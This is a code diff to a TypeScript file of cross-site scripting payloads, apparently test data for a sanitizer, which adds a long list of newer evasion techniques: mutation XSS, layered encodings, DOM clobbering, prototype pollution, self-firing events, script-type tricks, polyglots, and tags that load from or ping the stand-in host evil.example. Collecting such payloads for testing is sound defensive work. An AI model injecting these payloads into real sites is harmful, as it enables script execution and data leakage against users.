@@ -1,7 +1,7 @@
 /** What people have stored to run in another's browser, by way of a name or a text (after the OWASP cheat sheet of filter evasion). */
 const RUN = "document.title='broken'";
 
-export const PAYLOADS: readonly string[] = [
+const EARLIER: readonly string[] = [
   `<script>${RUN}</script>`,
   `<script src=//evil.example/x.js></script>`,
   `<SCRIPT>${RUN}</SCRIPT>`,
@@ -65,3 +65,77 @@ export const PAYLOADS: readonly string[] = [
   `<template><script>${RUN}</script></template>`,
   `<x contenteditable onblur="${RUN}">x</x>`,
 ];
+
+/** Of later years: parsers that change their mind (mutation), names that cover the page’s own, new elements and events, other ways to ask elsewhere. */
+const LATER: readonly string[] = [
+  // Mutation: what one parser reads as a text, the next reads as an element.
+  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<noscript><style></noscript><img src=x onerror=${RUN}>`,
+  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
+  `<table><td background="javascript:${RUN}"><tr><svg><script>${RUN}</script></table>`,
+  `<select><option><style></select><img src=x onerror=${RUN}></style>`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
+  `<listing>&lt;img onerror="${RUN}" src=x&gt;</listing>`,
+  `<plaintext><script>${RUN}</script>`,
+  // Encoded once more than somebody decodes.
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `%253Cscript%253E${RUN}%253C/script%253E`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `\\x3cimg src=x onerror=${RUN}\\x3e`,
+  `＜script＞${RUN}＜/script＞`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `<a href="javas&Tab;cript&colon;${RUN}">x</a>`,
+  `<a href="javascript://%0a${RUN}">x</a>`,
+  // Elements with the names of what a script of the page asks for.
+  `<form id=document name=body><input name=title value="${RUN}"></form>`,
+  `<a id=session></a><a id=session name=person href="javascript:${RUN}"></a>`,
+  `<img name=cookie><img name=location data-x="${RUN}">`,
+  `<form id=content><input name=focus><input name=attributes onclick="${RUN}"></form>`,
+  `<iframe name=sessionStorage srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
+  `__proto__[dangerouslySetInnerHTML][__html]=<img src=x onerror=${RUN}>`,
+  `{"type":"img","props":{"src":"x","onerror":"${RUN}"},"key":null,"__v":1}`,
+  `{"dangerouslySetInnerHTML":{"__html":"<script>${RUN}</script>"}}`,
+  // Events that come by themselves.
+  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${RUN}">x</b>`,
+  `<b style="transition:color 1s" ontransitionend="${RUN}" autofocus tabindex=1>x</b>`,
+  `<b oncontentvisibilityautostatechange="${RUN}" style="display:block;content-visibility:auto">x</b>`,
+  `<button popovertarget=p>x</button><b popover id=p onbeforetoggle="${RUN}">x</b>`,
+  `<dialog open onclose="${RUN}"><form method=dialog><button autofocus>x</button></form></dialog>`,
+  `<input type=image src=x onerror="${RUN}">`,
+  `<video autoplay onloadstart="${RUN}"><source src=x></video>`,
+  `<body onhashchange="${RUN}" onmessage="${RUN}">`,
+  `<svg><set attributeName=onmouseover to="${RUN}" begin=0s></svg>`,
+  `<svg><animate attributeName=href values="javascript:${RUN}" begin=0s></animate><a id=x>x</a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"></use></svg>`,
+  `<slot onslotchange="${RUN}"><template shadowrootmode=open><script>${RUN}</script></template></slot>`,
+  // Scripts by another name.
+  `<script type=importmap>{"imports":{"/console/assets/main.js":"data:text/javascript,${RUN}"}}</script>`,
+  `<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/${RUN}"]}]}</script>`,
+  `<object type="text/x-scriptlet" data="data:text/html;base64,PHNjcmlwdD4=" title="${RUN}"></object>`,
+  `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<svg onload=parent.${RUN}>"></iframe>`,
+  `<frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
+  `<a href="vbscript:${RUN}">x</a>`,
+  `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><script>${RUN}</script>`,
+  // Questions to somebody else, without a script.
+  `<img srcset="//evil.example/${RUN} 2x"><picture><source srcset="//evil.example/p"></picture>`,
+  `<video poster="//evil.example/p.png" title="${RUN}"></video><audio src="//evil.example/a"></audio>`,
+  `<link rel=prefetch href="//evil.example/${RUN}"><link rel=dns-prefetch href="//evil.example">`,
+  `<style>@font-face{font-family:x;src:url(//evil.example/f)}*{font-family:x}</style>${RUN}`,
+  `<a ping="//evil.example/" href="/console/cases" title="${RUN}">x</a>`,
+  `<svg><image href="//evil.example/i.svg"/><feImage href="//evil.example/f"/></svg>${RUN}`,
+  `![x](javascript:${RUN}) [x](https://evil.example "${RUN}") <https://evil.example>`,
+  // Of other templates, and all at once.
+  `<%= ${RUN} %> #{${RUN}} [[\${${RUN}}]] {% ${RUN} %}`,
+  `<div ng-app ng-init="${RUN}" v-html="'<img src=x onerror=${RUN}>'" x-data="${RUN}" hx-on:load="${RUN}">x</div>`,
+  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
+  `\u202e>tpircs<${RUN}>tpircs/<\u202c<b onclick="${RUN}">\ufeff\u2028x</b>`,
+  `<custom-element is=x-y onfocusin="${RUN}" tabindex=0 autofocus>x</custom-element>`,
+];
+
+export const PAYLOADS: readonly string[] = [...EARLIER, ...LATER];
